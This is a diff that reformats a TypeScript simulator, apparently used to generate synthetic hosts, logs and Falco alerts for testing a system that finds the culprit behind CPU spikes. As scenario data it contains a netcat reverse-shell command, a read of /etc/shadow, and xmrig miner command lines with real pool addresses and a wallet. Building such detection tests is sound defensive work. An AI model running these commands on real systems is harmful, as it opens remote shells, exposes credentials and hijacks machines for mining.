@@ -140,13 +140,33 @@ class World {
   /** systemd, sshd, cron, rsyslogd, node_exporter and two or three services, together 5-20% of the host. */
   private addOrdinaryProcesses(): void {
     const scale = this.host.cpus * this.rng.between(0.05, 0.2);
-    this.process({ pid: 1, ppid: 0, name: 'systemd', exe: '/usr/lib/systemd/systemd', cmdline: '/sbin/init', owner: 'root', load: this.steady(0.003) });
+    this.process({
+      pid: 1,
+      ppid: 0,
+      name: 'systemd',
+      exe: '/usr/lib/systemd/systemd',
+      cmdline: '/sbin/init',
+      owner: 'root',
+      load: this.steady(0.003),
+    });
     const ordinary: [string, string, string, string, number][] = [
       ['sshd', '/usr/sbin/sshd', 'sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups', 'root', 0.01],
       ['cron', '/usr/sbin/cron', '/usr/sbin/cron -f', 'root', 0.005],
       ['rsyslogd', '/usr/sbin/rsyslogd', '/usr/sbin/rsyslogd -n -iNONE', 'syslog', 0.03],
-      ['node_exporter', '/usr/local/bin/node_exporter', '/usr/local/bin/node_exporter --collector.systemd', 'prometheus', 0.06],
-      ['postgres', '/usr/lib/postgresql/15/bin/postgres', '/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main', 'postgres', 0.35],
+      [
+        'node_exporter',
+        '/usr/local/bin/node_exporter',
+        '/usr/local/bin/node_exporter --collector.systemd',
+        'prometheus',
+        0.06,
+      ],
+      [
+        'postgres',
+        '/usr/lib/postgresql/15/bin/postgres',
+        '/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main',
+        'postgres',
+        0.35,
+      ],
       ['node', '/usr/bin/node', 'node /srv/app/server.js', 'app', 0.4],
     ];
     for (const [name, exe, cmdline, owner, share] of ordinary) {
@@ -155,8 +175,22 @@ class World {
   }
 
   nginx(): { master: SimProcess; worker: SimProcess } {
-    const master = this.process({ ppid: 1, name: 'nginx', exe: '/usr/sbin/nginx', cmdline: 'nginx: master process /usr/sbin/nginx -g daemon on; master_process on;', owner: 'root', load: this.steady(0.002) });
-    const worker = this.process({ ppid: master.pid, name: 'nginx', exe: '/usr/sbin/nginx', cmdline: 'nginx: worker process', owner: 'www-data', load: this.steady(0.05 * this.host.cpus) });
+    const master = this.process({
+      ppid: 1,
+      name: 'nginx',
+      exe: '/usr/sbin/nginx',
+      cmdline: 'nginx: master process /usr/sbin/nginx -g daemon on; master_process on;',
+      owner: 'root',
+      load: this.steady(0.002),
+    });
+    const worker = this.process({
+      ppid: master.pid,
+      name: 'nginx',
+      exe: '/usr/sbin/nginx',
+      cmdline: 'nginx: worker process',
+      owner: 'www-data',
+      load: this.steady(0.05 * this.host.cpus),
+    });
     return { master, worker };
   }
 
@@ -178,7 +212,12 @@ function alignTo(value: number, step: number): number {
 type Builder = (world: World, rng: Rng) => Pick<Scenario, 'description' | 'expect'>;
 
 const MINERS = [
-  { dir: '/tmp/.X11-unix/.xm', name: 'xmrig', flags: '-o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --donate-level 1' },
+  {
+    dir: '/tmp/.X11-unix/.xm',
+    name: 'xmrig',
+    flags:
+      '-o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --donate-level 1',
+  },
   { dir: '/dev/shm/.cache', name: 'kdevtmpfsi', flags: '' },
   { dir: '/var/tmp/.sys', name: 'kworkerds', flags: '--background' },
   { dir: '/tmp/xmrig-6.21.0', name: 'xmrig', flags: '--url pool.hashvault.pro:443 --tls --user 4Bx3 --threads AUTO' },
@@ -186,10 +225,30 @@ const MINERS = [
 ];
 
 const MINER_RULES = [
-  { rule: 'Detect crypto miners using the Stratum protocol', priority: 'Critical', message: 'Possible miner running', tags: ['host', 'mitre_impact'] },
-  { rule: 'Outbound Connection to C2 Servers', priority: 'Warning', message: 'Outbound connection to C2 server', tags: ['network', 'mitre_command_and_control'] },
-  { rule: 'Execution from /tmp', priority: 'Error', message: 'Executable launched from a temporary directory', tags: ['host', 'mitre_execution'] },
-  { rule: 'Drop and execute new binary in container', priority: 'Critical', message: 'Executing binary not part of base image', tags: ['container', 'mitre_persistence'] },
+  {
+    rule: 'Detect crypto miners using the Stratum protocol',
+    priority: 'Critical',
+    message: 'Possible miner running',
+    tags: ['host', 'mitre_impact'],
+  },
+  {
+    rule: 'Outbound Connection to C2 Servers',
+    priority: 'Warning',
+    message: 'Outbound connection to C2 server',
+    tags: ['network', 'mitre_command_and_control'],
+  },
+  {
+    rule: 'Execution from /tmp',
+    priority: 'Error',
+    message: 'Executable launched from a temporary directory',
+    tags: ['host', 'mitre_execution'],
+  },
+  {
+    rule: 'Drop and execute new binary in container',
+    priority: 'Critical',
+    message: 'Executing binary not part of base image',
+    tags: ['container', 'mitre_persistence'],
+  },
 ] as const;
 
 interface MinerOptions {
@@ -382,7 +441,15 @@ const backupWithSudo: Builder = (world, rng) => {
   const admin = rng.pick(['alice', 'bob', 'ops-oncall', 'deploy']);
   const command = rng.pick(SUDO_COMMANDS);
   const sudoAt = world.spikeStart + rng.between(30_000, 5 * MINUTE);
-  const shell = world.process({ ppid: 1, name: 'bash', exe: '/usr/bin/bash', cmdline: '-bash', owner: admin, start: sudoAt - 10 * MINUTE, load: () => 0.001 });
+  const shell = world.process({
+    ppid: 1,
+    name: 'bash',
+    exe: '/usr/bin/bash',
+    cmdline: '-bash',
+    owner: admin,
+    start: sudoAt - 10 * MINUTE,
+    load: () => 0.001,
+  });
   const sudo = world.process({
     ppid: shell.pid,
     name: 'sudo',
@@ -410,11 +477,23 @@ const backupWithSudo: Builder = (world, rng) => {
   const tty = `pts/${rng.int(0, 4)}`;
   world.auth.push({
     time: sudoAt,
-    line: authLine(sudoAt, world.host.name, 'sudo', undefined, `   ${admin} : TTY=${tty} ; PWD=/home/${admin} ; USER=root ; COMMAND=${command}`),
+    line: authLine(
+      sudoAt,
+      world.host.name,
+      'sudo',
+      undefined,
+      `   ${admin} : TTY=${tty} ; PWD=/home/${admin} ; USER=root ; COMMAND=${command}`,
+    ),
   });
   world.auth.push({
     time: sudoAt,
-    line: authLine(sudoAt, world.host.name, 'sudo', undefined, `pam_unix(sudo:session): session opened for user root(uid=0) by ${admin}(uid=1000)`),
+    line: authLine(
+      sudoAt,
+      world.host.name,
+      'sudo',
+      undefined,
+      `pam_unix(sudo:session): session opened for user root(uid=0) by ${admin}(uid=1000)`,
+    ),
   });
   return {
     description: `backup ${backup.name} drives CPU while ${admin} runs sudo ${command}`,
@@ -425,15 +504,50 @@ const backupWithSudo: Builder = (world, rng) => {
 const alertNoSpike: Builder = (world, rng) => {
   const at = world.spikeStart + rng.between(0, 5 * MINUTE);
   const variant = rng.pick([
-    { name: 'cat', exe: '/usr/bin/cat', cmdline: 'cat /etc/shadow', rule: 'Read sensitive file untrusted', priority: 'Warning' as const },
-    { name: 'nc', exe: '/usr/bin/nc.openbsd', cmdline: 'nc -e /bin/sh 203.0.113.50 4444', rule: 'Netcat Remote Code Execution in Container', priority: 'Critical' as const },
-    { name: 'xmrig', exe: '/tmp/xmrig', cmdline: '/tmp/xmrig --version', rule: 'Detect crypto miners using the Stratum protocol', priority: 'Critical' as const },
+    {
+      name: 'cat',
+      exe: '/usr/bin/cat',
+      cmdline: 'cat /etc/shadow',
+      rule: 'Read sensitive file untrusted',
+      priority: 'Warning' as const,
+    },
+    {
+      name: 'nc',
+      exe: '/usr/bin/nc.openbsd',
+      cmdline: 'nc -e /bin/sh 203.0.113.50 4444',
+      rule: 'Netcat Remote Code Execution in Container',
+      priority: 'Critical' as const,
+    },
+    {
+      name: 'xmrig',
+      exe: '/tmp/xmrig',
+      cmdline: '/tmp/xmrig --version',
+      rule: 'Detect crypto miners using the Stratum protocol',
+      priority: 'Critical' as const,
+    },
   ]);
-  const process = world.process({ ppid: 1, name: variant.name, exe: variant.exe, cmdline: variant.cmdline, owner: 'ubuntu', start: at, end: at + 2_000, load: () => 0.02 });
+  const process = world.process({
+    ppid: 1,
+    name: variant.name,
+    exe: variant.exe,
+    cmdline: variant.cmdline,
+    owner: 'ubuntu',
+    start: at,
+    end: at + 2_000,
+    load: () => 0.02,
+  });
   for (const time of world.alertTimes(at + 100, rng.int(1, 4))) {
     world.addFalco(
       time,
-      falcoAlert({ time, rule: variant.rule, priority: variant.priority, host: world.host.name, process, withPid: rng.chance(0.5), message: 'Suspicious activity' }),
+      falcoAlert({
+        time,
+        rule: variant.rule,
+        priority: variant.priority,
+        host: world.host.name,
+        process,
+        withPid: rng.chance(0.5),
+        message: 'Suspicious activity',
+      }),
     );
   }
   return {
@@ -455,7 +569,16 @@ const jvmBusy: Builder = (world, rng) => {
   // Routine process starts seen by Tetragon: context, never evidence.
   for (let i = 0; i < 6; i += 1) {
     const at = world.window.from + rng.between(0, world.window.to - world.window.from);
-    const routine = world.process({ ppid: 1, name: 'logrotate', exe: '/usr/sbin/logrotate', cmdline: '/usr/sbin/logrotate /etc/logrotate.conf', owner: 'root', start: at, end: at + 800, load: () => 0.05 });
+    const routine = world.process({
+      ppid: 1,
+      name: 'logrotate',
+      exe: '/usr/sbin/logrotate',
+      cmdline: '/usr/sbin/logrotate /etc/logrotate.conf',
+      owner: 'root',
+      start: at,
+      end: at + 800,
+      load: () => 0.05,
+    });
     world.tetragon.push({ time: at, line: tetragonExec(world.host.name, routine) });
   }
   return {
@@ -468,7 +591,8 @@ const pidReuse: Builder = (world, rng) => {
   const { interval } = world.window;
   const gapMinutes = rng.between(3, 7);
   // The short-lived process lives between two scrapes, so no metric ever shows it.
-  const scrapeBefore = world.window.from + Math.floor((world.spikeStart - gapMinutes * MINUTE - world.window.from) / interval) * interval;
+  const scrapeBefore =
+    world.window.from + Math.floor((world.spikeStart - gapMinutes * MINUTE - world.window.from) / interval) * interval;
   const shortStart = scrapeBefore + 1_000;
   const pid = world.pid();
   const shortLived = world.process({
@@ -487,7 +611,10 @@ const pidReuse: Builder = (world, rng) => {
     shortStart + 300,
     falcoAlert({
       time: shortStart + 300,
-      rule: rng.pick(['Redirect STDOUT/STDIN to Network Connection in Container', 'Netcat Remote Code Execution in Container']),
+      rule: rng.pick([
+        'Redirect STDOUT/STDIN to Network Connection in Container',
+        'Netcat Remote Code Execution in Container',
+      ]),
       priority: 'Critical',
       host: world.host.name,
       process: shortLived,
@@ -501,7 +628,11 @@ const pidReuse: Builder = (world, rng) => {
     world.tetragon.push({ time: end, line: tetragonExit(world.host.name, shortLived, undefined, end) });
   }
   const job = rng.pick([
-    { name: 'ffmpeg', exe: '/usr/bin/ffmpeg', cmdline: 'ffmpeg -i /srv/media/in.mov -c:v libx264 -preset slow /srv/media/out.mp4' },
+    {
+      name: 'ffmpeg',
+      exe: '/usr/bin/ffmpeg',
+      cmdline: 'ffmpeg -i /srv/media/in.mov -c:v libx264 -preset slow /srv/media/out.mp4',
+    },
     { name: 'python3', exe: '/usr/bin/python3.11', cmdline: 'python3 /opt/reports/monthly.py --all' },
     { name: 'make', exe: '/usr/bin/make', cmdline: 'make -j4 all' },
   ]);
@@ -524,13 +655,46 @@ const containerMiner: Builder = (world, rng) => {
   const apps = [
     { name: 'web', proc: 'nginx', exe: '/usr/sbin/nginx', cmdline: 'nginx: worker process', load: 0.05 },
     { name: 'api', proc: 'node', exe: '/usr/local/bin/node', cmdline: 'node dist/server.js', load: 0.2 },
-    { name: 'worker', proc: 'python', exe: '/usr/local/bin/python3.12', cmdline: 'python -m celery worker', load: 0.15 },
-    { name: 'db', proc: 'postgres', exe: '/usr/lib/postgresql/16/bin/postgres', cmdline: 'postgres -D /var/lib/postgresql/data', load: 0.2 },
-    { name: 'cache', proc: 'redis-server', exe: '/usr/local/bin/redis-server', cmdline: 'redis-server *:6379', load: 0.05 },
+    {
+      name: 'worker',
+      proc: 'python',
+      exe: '/usr/local/bin/python3.12',
+      cmdline: 'python -m celery worker',
+      load: 0.15,
+    },
+    {
+      name: 'db',
+      proc: 'postgres',
+      exe: '/usr/lib/postgresql/16/bin/postgres',
+      cmdline: 'postgres -D /var/lib/postgresql/data',
+      load: 0.2,
+    },
+    {
+      name: 'cache',
+      proc: 'redis-server',
+      exe: '/usr/local/bin/redis-server',
+      cmdline: 'redis-server *:6379',
+      load: 0.05,
+    },
   ];
   const count = rng.int(3, apps.length);
-  world.process({ pid: 1, ppid: 0, name: 'systemd', exe: '/usr/lib/systemd/systemd', cmdline: '/sbin/init', owner: 'root', load: () => 0.005 });
-  world.process({ ppid: 1, name: 'kubelet', exe: '/usr/bin/kubelet', cmdline: '/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml', owner: 'root', load: world.steady(0.03 * world.host.cpus) });
+  world.process({
+    pid: 1,
+    ppid: 0,
+    name: 'systemd',
+    exe: '/usr/lib/systemd/systemd',
+    cmdline: '/sbin/init',
+    owner: 'root',
+    load: () => 0.005,
+  });
+  world.process({
+    ppid: 1,
+    name: 'kubelet',
+    exe: '/usr/bin/kubelet',
+    cmdline: '/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml',
+    owner: 'root',
+    load: world.steady(0.03 * world.host.cpus),
+  });
   for (const app of apps.slice(0, count)) {
     const container: SimContainer = {
       id: rng.hex(64),
@@ -539,19 +703,39 @@ const containerMiner: Builder = (world, rng) => {
       namespace: 'shop',
     };
     world.host.containers.push(container);
-    world.process({ ppid: 1, name: app.proc, exe: app.exe, cmdline: app.cmdline, owner: 'app', containerId: container.id, load: world.steady(app.load * world.host.cpus * 0.25) });
+    world.process({
+      ppid: 1,
+      name: app.proc,
+      exe: app.exe,
+      cmdline: app.cmdline,
+      owner: 'app',
+      containerId: container.id,
+      load: world.steady(app.load * world.host.cpus * 0.25),
+    });
   }
   const target = rng.pick(world.host.containers);
   const process = addMiner(world, rng, { withPid: rng.chance(0.5), share: rng.between(0.3, 0.8), container: target });
   return {
     description: `miner ${process.name} (pid ${process.pid}) in container ${target.name} ${target.id.slice(0, 12)} among ${count}`,
-    expect: { correlated: true, culprit: { pid: process.pid, name: process.name }, container: target.id, anomaly: 'cpu' },
+    expect: {
+      correlated: true,
+      culprit: { pid: process.pid, name: process.name },
+      container: target.id,
+      anomaly: 'cpu',
+    },
   };
 };
 
 const minerStarvesService: Builder = (world, rng) => {
   const serviceName = rng.pick(['checkout', 'payments', 'cart', 'search']);
-  const app = world.process({ ppid: 1, name: 'node', exe: '/usr/bin/node', cmdline: `node /srv/${serviceName}/index.js`, owner: 'app', load: world.steady(0.1 * world.host.cpus) });
+  const app = world.process({
+    ppid: 1,
+    name: 'node',
+    exe: '/usr/bin/node',
+    cmdline: `node /srv/${serviceName}/index.js`,
+    owner: 'app',
+    load: world.steady(0.1 * world.host.cpus),
+  });
   const slowdown = rng.between(3, 8);
   const baseMedian = rng.between(0.02, 0.08);
   const service: SimService = {
@@ -567,7 +751,12 @@ const minerStarvesService: Builder = (world, rng) => {
   const process = addMiner(world, rng, { withPid: rng.chance(0.5), share: 1 });
   return {
     description: `miner ${process.name} saturates ${world.host.cpus} cpus; ${serviceName} latency x${slowdown.toFixed(1)}`,
-    expect: { correlated: true, culprit: { pid: process.pid, name: process.name }, anomaly: 'latency', foldsLatency: true },
+    expect: {
+      correlated: true,
+      culprit: { pid: process.pid, name: process.name },
+      anomaly: 'latency',
+      foldsLatency: true,
+    },
   };
 };
 
